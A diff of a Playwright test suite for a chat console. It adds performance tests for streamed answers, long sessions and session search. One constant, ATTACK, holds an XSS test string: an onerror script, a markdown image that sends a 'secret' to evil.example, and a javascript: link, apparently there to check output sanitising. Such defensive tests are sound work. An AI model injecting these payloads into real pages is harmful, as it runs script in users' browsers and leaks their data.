@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import base64
+import json
 import re
+import time
 import uuid
 from collections.abc import Callable, Iterator
 from typing import Any
@@ -14,7 +16,7 @@ from playwright.sync_api import FilePayload, Locator, Page, expect
 from tests.clients.behaviours import calculate
 from tests.clients.hub import Hub
 from tests.clients.upstream import Upstream
-from tests.console.browsing import Console
+from tests.console.browsing import Console, open_database
 from tests.console.conftest import StartConsole
 
 QUESTION = {
@@ -36,7 +38,15 @@ PNG = base64.b64decode(
     "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
 )
 MARKDOWN = "# Found\n\nIt is **12 days** old.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n"
-ATTACK = '<img src=x onerror=alert(1)> ![x](https://evil.example/x.png?q=secret) [y](javascript:alert(1))'
+UNTIL_ANSWERED = """new Promise((done) => {
+    const look = () => {
+        const buttons = document.querySelectorAll("[aria-label='Answer again']:enabled");
+        if (buttons.length > 0) done();
+        else setTimeout(look, 100);
+    };
+    look();
+})"""
+ATTACK = "<img src=x onerror=alert(1)> ![x](https://evil.example/x.png?q=secret) [y](javascript:alert(1))"
 
 
 @pytest.fixture(scope="module")
@@ -253,7 +263,9 @@ def test_a_message_is_edited_answered_again_and_forked(console: Console, upstrea
 def test_files_go_in_and_models_and_agents_are_chosen(console: Console, upstream: Upstream) -> None:
     page = console.open("/chat")
     page.get_by_label("Agent").select_option("clerk")
-    page.get_by_label("Files", exact=True).set_input_files(FilePayload(name="dot.png", mimeType="image/png", buffer=PNG))
+    page.get_by_label("Files", exact=True).set_input_files(
+        FilePayload(name="dot.png", mimeType="image/png", buffer=PNG)
+    )
     mark = upstream.teach([{"text": "A dot."}])
     say(page, f"{mark} what is it?")
     is_ready(page)
@@ -286,34 +298,70 @@ def test_what_the_model_refuses_is_told_and_can_be_tried_again(console: Console,
 
 @pytest.mark.thorough
 def test_a_thousand_chunks_a_second_take_less_than_half_a_core(console: Console, upstream: Upstream) -> None:
-    chunks = [f"Word {number} of a **long** answer.{' ' if number % 40 else chr(10) * 2}" for number in range(8_000)]
+    count = 8_000
+    chunks = [
+        f"Word {number} of a **long** answer.{' ' if number % 40 else chr(10) * 2}" for number in range(count)
+    ]
     mark = upstream.teach([{"text": chunks, "pace": 0.001}])
     page = console.open("/chat")
     expect(page.get_by_text("Start with a message")).to_be_visible()
-    session = page.context.new_cdp_session(page)
-    session.send("Performance.enable")
-
-    def measure() -> tuple[float, float]:
-        found = {each["name"]: each["value"] for each in session.send("Performance.getMetrics")["metrics"]}
-        return found["TaskDuration"], found["Timestamp"]
-
+    before, began = console.renderer_seconds(), time.monotonic()
     say(page, f"{mark} go")
-    expect(answers(page)).to_be_visible()
-    busy, began = measure()
+    page.evaluate(UNTIL_ANSWERED)  # Playwright's own looks would take the tab's time
+    busy, elapsed = console.renderer_seconds() - before, time.monotonic() - began
+    expect(answers(page)).to_contain_text(f"Word {count - 1} of a long answer.")
+    # It draws by the time, not by the chunk: a loaded machine, which sends fewer a second, draws more often.
+    assert busy / max(elapsed, count / 1000) < 0.5, (busy, elapsed)
+
+
+@pytest.mark.thorough
+def test_a_long_session_opens_at_its_end_and_holds_only_what_is_looked_at(
+    console: Console, hub: Hub, upstream: Upstream
+) -> None:
+    messages = [
+        {"id": f"m{number}", "role": ("user", "assistant")[number % 2], "parts": [text_part(number)]}
+        for number in range(1_000)
+    ]
+    lines = [{"format": "dragoman-session", "version": 1, "title": "Long"}, *messages]
+    imported = console.page.context.request.post(
+        f"{hub.url}/api/sessions/import?id=long",
+        data="\n".join(map(json.dumps, lines)),
+        headers={"authorization": f"Bearer {hub.key}"},
+    )
+    assert imported.status == 201, imported.text()
+    page = console.open("/chat/long")
+    expect(answers(page).filter(has_text="Message 999,")).to_be_in_viewport()
+    assert page.locator("[data-message]").count() < 50
+    assert console.find_accessibility_problems() == []
+    page.get_by_role("group", name="Messages").focus()
+    page.keyboard.press("Home")
+    expect(page.locator("[data-message]").filter(has_text="Message 0,")).to_be_in_viewport()
+    assert page.locator("[data-message]").count() < 50
+    mark = upstream.teach([{"text": "The newest."}])
+    say(page, f"{mark} go on")
+    expect(answers(page).filter(has_text="The newest.")).to_be_in_viewport()
     is_ready(page)
-    busy_after, ended = measure()
-    assert (busy_after - busy) / (ended - began) < 0.5
+
+
+def text_part(number: int) -> dict[str, str]:
+    return {"type": "text", "text": f"Message {number}, " + "with some words " * (number % 60)}
 
 
 @pytest.mark.thorough
 @pytest.mark.parametrize("count", [1, 10_000])
-def test_a_long_session_and_many_sessions_open(start_hub: Callable[..., Hub], start_console: StartConsole, count: int) -> None:
+def test_one_session_of_many_is_found(
+    start_hub: Callable[..., Hub], start_console: StartConsole, count: int
+) -> None:
     hub = start_hub()
-    for number in range(count):
-        hub.request("POST", "/api/sessions", {"id": f"s{number}", "title": f"Session {number}"})
+    with open_database(hub) as database:
+        database.executemany(
+            "INSERT INTO sessions (id, owner, title, created_at, updated_at) VALUES (?, 'ann', ?, ?, ?)",
+            ((f"s{number}", f"Session {number}", number, number) for number in range(count)),
+        )
     console = start_console(hub)
     page = console.open("/chat")
     expect(page.get_by_role("link", name=f"Session {count - 1} ")).to_be_visible()
+    assert page.get_by_role("complementary").get_by_role("link").count() < 100
     page.get_by_label("Search sessions").fill("Session 0")
     page.get_by_role("link", name="Session 0 ").click()
     expect(page.get_by_role("heading", name="Session 0")).to_be_visible()
